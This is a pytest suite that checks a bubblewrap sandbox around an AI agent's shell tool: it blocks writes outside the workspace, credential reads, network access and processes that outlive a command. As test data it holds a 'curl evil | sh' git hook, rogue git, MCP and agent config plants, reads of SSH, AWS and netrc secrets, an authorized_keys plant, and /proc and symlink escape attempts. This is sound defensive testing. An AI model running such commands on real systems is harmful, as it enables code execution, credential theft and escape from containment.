"""The sandbox for real: run_shell commands in bubblewrap, checked from outside.

Harmless commands only, in tmp dirs. Each test needs a working ``bwrap``; without one the
tests skip, except under ``CI=true`` where a missing sandbox fails (CI installs bubblewrap).
Where a check could pass for a reason other than the sandbox, the same command is run with
the sandbox off first and shown to succeed.
"""

from __future__ import annotations

import asyncio
import http.server
import os
import secrets
import shlex
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agent_ls.ports.editor import Decision
from agent_ls.safety.permissions import Permissions
from agent_ls.safety.sandbox import find_bwrap, probe
from agent_ls.settings import Mode, Settings
from agent_ls.tools.base import ToolContext, ToolResult
from agent_ls.tools.shell import RunShell, RunShellInput
from agent_ls.workspace import ReadState, Workspace
from tests.editor_sim import editor
from tests.fakes import FakePort

PY = shlex.quote(sys.executable)


@pytest.fixture(autouse=True)
def _working_bwrap() -> None:
    program = find_bwrap([])
    why = "bwrap is not on PATH" if program is None else probe(program)
    if why is None:
        return
    if os.environ.get("CI") == "true":
        pytest.fail(f"CI must run the sandbox tests: {why} (install bubblewrap)")
    pytest.skip(f"no working sandbox: {why}")


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    return root


def make_ctx(
    root: Path,
    mode: Mode = "bypassPermissions",
    decisions: list[Decision] | None = None,
    **settings: Any,
) -> ToolContext:
    """bypassPermissions by default: these tests are about what the sandbox lets happen."""
    return ToolContext(
        workspace=Workspace([root]),
        port=FakePort(decisions=list(decisions or [])),
        read_state=ReadState(),
        permissions=Permissions(mode=mode),
        settings=Settings(**{"sandbox": "on", **settings}),
        session_id="s1",
        tool_call_id="c1",
    )


async def run(ctx: ToolContext, command: str, timeout_ms: int | None = None) -> ToolResult:
    return await RunShell().run(RunShellInput(command=command, timeout=timeout_ms), ctx)


def asked(ctx: ToolContext) -> list[str]:
    port = ctx.port
    assert isinstance(port, FakePort)
    return [r.message for r in port.asked]


def processes_with(token: str) -> list[int]:
    """Live processes (zombies excluded) whose command line contains ``token``, from /proc."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            state = (entry / "stat").read_text().rpartition(")")[2].split()[0]
        except OSError:
            continue
        if token in cmdline and state != "Z" and "pytest" not in cmdline:
            found.append(int(entry.name))
    return found


async def gone(token: str, within: float = 2.0) -> bool:
    deadline = time.monotonic() + within
    while processes_with(token):
        if time.monotonic() > deadline:
            return False
        await asyncio.sleep(0.01)
    return True


async def settled(check: Any, within: float = 5.0) -> bool:
    """``check()`` becomes true: the sandbox cleans up in the background after a command."""
    deadline = time.monotonic() + within
    while not check():
        if time.monotonic() > deadline:
            return False
        await asyncio.sleep(0.01)
    return True


def token_seconds() -> str:
    """A sleep duration nobody else uses, to find our processes in /proc."""
    return f"300.{secrets.randbelow(10**8):08d}"


# -- the file system --------------------------------------------------------------------------


async def test_writing_outside_the_workspace_fails_and_nothing_appears(
    ws: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.txt"
    command = f"echo leaked > {outside}"
    result = await run(make_ctx(ws), command)
    assert result.is_error and result.raw_output["sandboxed"] is True
    assert "Read-only file system" in result.content and "[sandbox]" in result.content
    assert not outside.exists()
    assert not (await run(make_ctx(ws, sandbox="off"), command)).is_error
    assert outside.read_text() == "leaked\n"  # the same command does write without it


async def test_the_workspace_and_a_private_tmpdir_are_writable(ws: Path) -> None:
    result = await run(
        make_ctx(ws),
        'touch made.txt && echo "$TMPDIR" && touch "$TMPDIR/scratch" && ls "$TMPDIR"',
    )
    assert not result.is_error, result.content
    assert (ws / "made.txt").exists()
    tmpdir = Path(result.content.splitlines()[1])
    assert "scratch" in result.content and tmpdir != Path("/tmp")
    assert await settled(lambda: not tmpdir.exists())  # private to the command, removed after


@pytest.mark.parametrize("existing", [False, True], ids=["missing", "existing"])
async def test_protected_paths_cannot_be_written(ws: Path, existing: bool) -> None:
    if existing:
        (ws / ".git" / "hooks").mkdir(parents=True)
        (ws / ".git" / "config").write_text("[core]\n")
        (ws / ".vscode").mkdir()
        (ws / ".mcp.json").write_text("{}")
    before = sorted(str(p.relative_to(ws)) for p in ws.rglob("*"))
    attempts = [
        "mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/x && chmod +x .git/hooks/x",
        "echo '[core] fsmonitor = evil' >> .git/config",
        'echo \'{"mcpServers": {"x": {"command": "evil"}}}\' > .mcp.json',
        "mkdir -p .vscode && echo '{}' > .vscode/settings.json",
        "mkdir -p .claude/agents && echo x > .claude/agents/evil.md",
        "mkdir -p .agent-ls && echo '{}' > .agent-ls/settings.json",
        "rm -rf .vscode .mcp.json .git/hooks",
        "mv .git .git-moved; mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
    ]
    ctx = make_ctx(ws)
    for command in attempts:
        result = await run(ctx, command)
        assert result.is_error, (command, result.content)
        assert "[sandbox]" in result.content, result.content

    def listing() -> list[str]:
        try:
            return sorted(str(p.relative_to(ws)) for p in ws.rglob("*"))
        except FileNotFoundError:  # a placeholder went while listing
            return ["(changing)"]

    await settled(lambda: listing() == before)
    assert listing() == before  # nothing written, and no placeholder left behind
    if existing:
        assert (ws / ".git" / "config").read_text() == "[core]\n"
        assert (ws / ".mcp.json").read_text() == "{}"
    assert not (await run(ctx, "touch allowed.txt")).is_error  # the workspace itself is fine


@pytest.fixture
def repo(ws: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    (ws / "f.txt").write_text("one\n")
    return ws


async def test_git_works_and_sees_no_placeholders(repo: Path) -> None:
    ws = repo
    ctx = make_ctx(ws)
    seen = await run(ctx, "git status --porcelain --untracked-files=all")
    assert seen.content.splitlines()[1:] == ["?? f.txt"]  # no .mcp.json, .vscode/, ... listed
    env = "GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@e GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@e"
    committed = await run(ctx, f"git add -A && {env} git commit -qm one && git log --format=%s")
    assert not committed.is_error and committed.content.endswith("one"), committed.content
    config = await run(ctx, "git config core.fsmonitor evil")
    assert config.is_error and "[sandbox]" in config.content
    assert "evil" not in (ws / ".git" / "config").read_text()


async def test_credential_stores_read_as_empty(
    ws: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("SECRET-KEY\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("SECRET-AWS\n")
    (home / ".netrc").write_text("machine x password SECRET-NETRC\n")
    monkeypatch.setenv("HOME", str(home))
    command = "cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc; ls -A ~/.ssh ~/.aws; wc -c < ~/.netrc"
    shown = await run(make_ctx(ws, sandbox="off"), command)
    assert "SECRET-KEY" in shown.content  # readable without the sandbox
    result = await run(make_ctx(ws), command)
    assert "SECRET" not in result.content
    assert f"cat: {home}/.ssh/id_rsa: No such file or directory" in result.content
    assert result.content.rstrip().endswith("\n0")  # ~/.netrc reads as an empty file
    assert "credential" in result.content  # and the note says why
    writes = await run(make_ctx(ws), "echo planted > ~/.ssh/authorized_keys")
    assert writes.is_error and not (home / ".ssh" / "authorized_keys").exists()


# -- escapes ----------------------------------------------------------------------------------


async def test_python_escape_attempts_fail(ws: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (ws / "planted").symlink_to(outside)  # a link in the workspace pointing out of it
    attempts = {
        "proc-self-root": f"open('/proc/self/root{outside}/a', 'w').write('x')",
        "proc-1-root": f"open('/proc/1/root{outside}/b', 'w').write('x')",
        "planted-link": "open('planted/c', 'w').write('x')",
        "new-link": f"import os; os.symlink('{outside}', 'l2'); open('l2/d', 'w').write('x')",
        "rename-out": f"import os; open('e', 'w').write('x'); os.rename('e', '{outside}/e')",
        "remount": f"import os; r = os.system('mount -o remount,rw /'); open('{outside}/f', 'w')",
    }
    ctx = make_ctx(ws)
    for name, code in attempts.items():
        result = await run(ctx, f"{PY} -c {shlex.quote(code)}")
        assert result.is_error, (name, result.content)
    assert list(outside.iterdir()) == []
    done = await run(
        make_ctx(ws, sandbox="off"), f"{PY} -c {shlex.quote(attempts['planted-link'])}"
    )
    assert not done.is_error and (outside / "c").exists()  # the link does lead out


# -- the network ------------------------------------------------------------------------------


@pytest.fixture
def listening() -> Iterator[int]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    try:
        yield server.getsockname()[1]
    finally:
        server.close()


async def test_no_network_inside(ws: Path, listening: int) -> None:
    connect = f"import socket; socket.create_connection(('127.0.0.1', {listening}), 2)"
    command = f"{PY} -c {shlex.quote(connect)} && echo connected"
    assert "connected" in (await run(make_ctx(ws, sandbox="off"), command)).content
    refused = await run(make_ctx(ws), command)
    assert refused.is_error and "connected" not in refused.content
    assert "without network" in refused.content  # the note tells the model why
    granted = await run(make_ctx(ws, sandboxNetwork=True), command)
    assert "connected" in granted.content


@pytest.fixture
def web(tmp_path: Path) -> Iterator[int]:
    site = tmp_path / "site"
    site.mkdir()
    (site / "hello.txt").write_text("hello from the host\n")

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, directory=str(site), **kwargs)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


async def test_an_allowed_network_command_runs_with_network(ws: Path, web: int) -> None:
    ctx = make_ctx(ws, mode="default", decisions=[Decision.ALLOW])
    result = await run(ctx, f"curl -s http://127.0.0.1:{web}/hello.txt")
    assert len(asked(ctx)) == 1 and "with network access" in asked(ctx)[0]
    assert result.raw_output["sandboxed"] is True
    assert "hello from the host" in result.content
    # A command that did not ask for the network gets none, even to the same server.
    fetch = (
        f"import urllib.request as u; print(u.urlopen('http://127.0.0.1:{web}/hello.txt').read())"
    )
    quiet = await run(make_ctx(ws), f"{PY} -c {shlex.quote(fetch)}")
    assert quiet.is_error and "hello from the host" not in quiet.content


# -- processes --------------------------------------------------------------------------------


async def test_a_child_that_outlives_the_command_is_killed(ws: Path) -> None:
    seconds = token_seconds()
    command = (
        f"sleep {seconds} & (setsid sleep {seconds} &); "
        f"nohup sleep {seconds} >/dev/null 2>&1 & echo started"
    )
    result = await run(make_ctx(ws), command)
    assert "started" in result.content
    assert await gone(seconds), processes_with(seconds)


async def test_timeout_kills_everything_inside(ws: Path) -> None:
    seconds = token_seconds()
    started = time.monotonic()
    result = await run(make_ctx(ws), f"sleep {seconds} & sleep {seconds}", timeout_ms=1000)
    assert result.raw_output["timedOut"] is True and "Timed out" in result.content
    assert await gone(seconds), processes_with(seconds)
    assert time.monotonic() - started < 10


async def test_cancel_kills_everything_inside(ws: Path) -> None:
    seconds = token_seconds()
    task = asyncio.ensure_future(run(make_ctx(ws), f"(setsid sleep {seconds} &); sleep {seconds}"))
    deadline = time.monotonic() + 10
    while len(processes_with(seconds)) < 2:
        assert time.monotonic() < deadline, "the command did not start"
        await asyncio.sleep(0.01)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert await gone(seconds), processes_with(seconds)


# -- questions, end to end --------------------------------------------------------------------

TEST_FILE = """import unittest


class T(unittest.TestCase):
    def test_ok(self):
        self.assertEqual(1 + 1, 2)
"""


async def test_contained_work_runs_without_asking_and_the_rest_still_asks(
    workspace: Path,
) -> None:
    (workspace / "src").mkdir()
    (workspace / "src" / "keep.py").write_text("x = 1\n")
    (workspace / "test_it.py").write_text(TEST_FILE)
    script = {
        "turns": [
            {"tool_calls": [{"name": "run_shell", "input": {"command": "touch made.txt"}}]},
            {"tool_calls": [{"name": "run_shell", "input": {"command": "python3 -m unittest"}}]},
            {"tool_calls": [{"name": "run_shell", "input": {"command": "rm -rf src"}}]},
            {
                "tool_calls": [
                    {"name": "run_shell", "input": {"command": "curl http://127.0.0.1:1/"}}
                ]
            },
            {"text": "done"},
        ]
    }
    async with editor(workspace, script=script) as ed:
        status = await ed.command("agent.status", {})
        assert status["sandbox"] == {"mode": "auto", "active": True, "backend": "bwrap"}
        ed.answers = ["Deny", "Deny"]
        result = await ed.ask("fix the failing test")
        assert result["stopReason"] == "end_turn"
        assert len(ed.confirmations) == 2
        assert "rm -rf src" in ed.confirmations[0] and "curl" in ed.confirmations[1]
        assert (workspace / "made.txt").exists() and (workspace / "src" / "keep.py").exists()
        outputs = [u for u in ed.of_kind("tool_call_update") if "rawOutput" in u]
        unittest_run = outputs[1]
        assert unittest_run["rawOutput"]["exitCode"] == 0
        assert unittest_run["rawOutput"]["sandboxed"] is True
        assert "OK" in unittest_run["content"][0]["content"]["text"]


async def test_status_says_when_and_why_the_sandbox_is_off(workspace: Path) -> None:
    async with editor(workspace, init_options={"sandbox": "off"}) as ed:
        status = await ed.command("agent.status", {})
        sandbox = status["sandbox"]
        assert sandbox["mode"] == "off" and sandbox["active"] is False
        assert sandbox["backend"] is None and "off" in sandbox["reason"]


# -- the command line -------------------------------------------------------------------------


@pytest.mark.parametrize("flag", ["on", "off"])
def test_run_sandbox_flag_reaches_the_server(workspace: Path, tmp_path: Path, flag: str) -> None:
    from tests.test_cli import agent_ls

    outside = tmp_path / "outside.txt"
    script = {
        "turns": [
            {"tool_calls": [{"name": "run_shell", "input": {"command": f"touch {outside}"}}]},
            {"text": "done"},
        ]
    }
    done = agent_ls("run", "--yes", "--sandbox", flag, "go", cwd=workspace, script=script)
    assert done.returncode == 0, done.stderr
    assert outside.exists() == (flag == "off")  # --yes allows it; only the sandbox stops it
